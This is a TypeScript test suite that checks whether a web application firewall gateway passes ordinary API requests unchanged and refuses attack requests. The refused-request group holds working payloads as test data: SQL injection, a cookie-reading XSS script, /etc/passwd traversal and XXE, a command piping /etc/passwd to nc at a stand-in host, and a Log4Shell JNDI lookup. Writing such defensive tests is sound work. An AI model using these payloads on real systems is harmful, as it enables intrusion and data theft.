import { hostRoute, passesThrough, refusedByGateway } from "./gatewayStand/expectations";
import type { StandRequest } from "./gatewayStand/expectations";
import type { Exchange } from "./gatewayStand/stand";
import { GatewayStand } from "./gatewayStand/stand";
import { STAND } from "./gatewayStand/protocol";

const JSON_TYPE = ["Content-Type", "application/json"];
const SQL_INJECTION = "1' UNION SELECT password FROM users WHERE '1'='1";

describe("a WAF gateway, inspecting", function () {
  this.timeout(300_000);
  let stand: GatewayStand;

  before(async function () {
    // Namespaces are root's. `npm test` says so too.
    if (process.getuid?.() !== 0) this.skip();
    stand = await GatewayStand.start({ [`${STAND.hostRoutePrefix}api.shop.example.json`]: hostRoute({}) });
  });
  after(() => stand.stop());

  const passes = (request: StandRequest): Promise<Exchange> => passesThrough(stand, request);

  describe("passes byte for byte", () => {
    for (const path of [
      "/",
      "/orders?status=open&limit=20",
      "/orders/a%2Fb",
      "/orders//7",
      "/files/%E2%82%AC%20report;v=1",
      "/search?q=a%2Bb+c&empty=&flag",
    ]) {
      it(`GET ${path}`, () => passes({ path }));
    }
    for (const method of ["POST", "PUT", "PATCH"]) {
      it(`${method} with a JSON body`, () =>
        passes({ method, path: "/orders/7", headers: JSON_TYPE, body: '{"name": "Zoë", "n": [1, 2]}' }));
    }
    it("DELETE", () => passes({ method: "DELETE", path: "/orders/7" }));
    it("OPTIONS", () => passes({ method: "OPTIONS", path: "/orders", headers: ["Origin", "https://shop.example"] }));
    it("HEAD", () => passes({ method: "HEAD", path: "/orders" }));
    it("a JSON type of its own", () =>
      passes({
        method: "POST",
        path: "/articles",
        headers: ["Content-Type", "application/vnd.api+json"],
        body: '{"data":{"type":"articles"}}',
      }));
    it("a form", () =>
      passes({
        method: "POST",
        path: "/form",
        headers: ["Content-Type", "application/x-www-form-urlencoded"],
        body: "name=Ann&city=K%C3%B6ln",
      }));
    it("a chunked body", () =>
      passes({
        method: "POST",
        path: "/orders",
        headers: [...JSON_TYPE, "Transfer-Encoding", "chunked"],
        body: '{"chunked":true}',
      }));
    it("a body that the client asks leave to send, as curl does with a large one", () =>
      passes({ method: "POST", path: "/orders", headers: [...JSON_TYPE, "Expect", "100-continue"], body: '{"n":1}' }));
    it("140 KB of JSON, more than the engine's default lets in", () =>
      passes({
        method: "POST",
        path: "/orders",
        headers: JSON_TYPE,
        body: JSON.stringify({ text: "lorem ipsum ".repeat(12_000) }),
      }));
    it("GraphQL with a variable named like a Mongo operator", () =>
      passes({
        method: "POST",
        path: "/graphql",
        headers: JSON_TYPE,
        body: JSON.stringify({
          query:
            "query Orders($first: Int!, $after: String) { orders(first: $first, after: $after) { edges { node { id total } } pageInfo { endCursor } } }",
          variables: { first: 10, after: "b3JkZXI6Nw==" },
        }),
      }));
    it("a long GraphQL document", () => {
      const fields = Array.from({ length: 2000 }, (_, index) => `field${index}: total(unit: "EUR")`).join(" ");
      const body = JSON.stringify({ query: `query Long($first: Int = 10) { orders(first: $first) { ${fields} } }` });
      return passes({ method: "POST", path: "/graphql", headers: JSON_TYPE, body });
    });
    it("GraphQL with Relay's selections", () =>
      passes({
        method: "POST",
        path: "/graphql",
        headers: JSON_TYPE,
        body: JSON.stringify({
          query: "query { viewer { orders(last: 5) { edges { node { id } cursor } } }\n node(id: 7) { id } }\n{ node }",
        }),
      }));
    it("GraphQL with a selection that looks like a command", () =>
      passes({
        method: "POST",
        path: "/graphql",
        headers: JSON_TYPE,
        body: JSON.stringify({ query: '{ node(id: "T3JkZXI6Nw==") { id } }' }),
      }));
  });

  describe("refuses, and the origin does not see", () => {
    const attack = (title: string, request: StandRequest): void => {
      it(title, async () => refusedByGateway(await stand.request(request)));
    };
    const query = (value: string): string => `/orders?q=${encodeURIComponent(value)}`;
    const post = (body: unknown, type = "application/json"): StandRequest => ({
      method: "POST",
      path: "/orders",
      headers: ["Content-Type", type],
      body: JSON.stringify(body),
    });
    attack("SQL injection in the query", { path: query(SQL_INJECTION) });
    attack("SQL injection in JSON", post({ filter: { name: SQL_INJECTION } }));
    attack("cross-site scripting", { path: query("<script>alert(document.cookie)</script>") });
    attack("traversal", { path: query("../../../../etc/passwd") });
    attack("command injection", { path: query("; cat /etc/passwd | nc 192.0.2.1 99") });
    attack("Log4Shell in a header", { path: "/orders", headers: ["X-Api-Version", "${jndi:ldap://192.0.2.1/a}"] });
    attack("SQL injection in a JSON type of its own", post({ data: SQL_INJECTION }, "application/vnd.api+json"));
    attack("SQL injection in merge-patch", {
      ...post({ name: SQL_INJECTION }, "application/merge-patch+json"),
      method: "PATCH",
    });
    attack("SQL injection in a GraphQL argument", post({ query: `{ orders(name: "${SQL_INJECTION}") { id } }` }));
    attack("a command in a GraphQL argument", post({ query: '{ node(id: "; cat /etc/passwd") { id } }' }));
    attack("a Mongo operator in a GraphQL argument", post({ query: '{ orders(filter: "{ $where: 1 }") { id } }' }));
    attack(
      "a Mongo operator that only claims to be GraphQL",
      post({ query: "{ $where: function() { return true } }" }),
    );
    attack("a Mongo operator after a brace", post({ query: "{ $ne: 1 }" }));
    attack("a Mongo operator outside GraphQL", post({ filter: "[$ne]=1" }));
    attack("a body of a type that is not inspected", {
      ...post(SQL_INJECTION),
      headers: ["Content-Type", "text/plain"],
    });
    // The rules read the text of an XML document only, so a document is refused whatever it holds.
    for (const type of ["application/xml", "text/xml", "application/soap+xml", "application/atom+xml"]) {
      attack(`SQL injection in an attribute of ${type}`, {
        method: "POST",
        path: "/orders",
        headers: ["Content-Type", type],
        body: `<order name="${SQL_INJECTION}"/>`,
      });
    }
    attack("an external entity", {
      method: "POST",
      path: "/orders",
      headers: ["Content-Type", "application/xml"],
      body: '<!DOCTYPE order [<!ENTITY file SYSTEM "file:///etc/passwd">]><order>&file;</order>',
    });
    attack("an expectation that is none", {
      method: "POST",
      path: "/orders",
      headers: [...JSON_TYPE, "Expect", "100-continue, other"],
      body: "{}",
    });
    attack("a header that API Gateway maps to another", {
      path: "/orders",
      headers: ["x-amzn-Remapped-Anything", "1"],
    });
  });
});
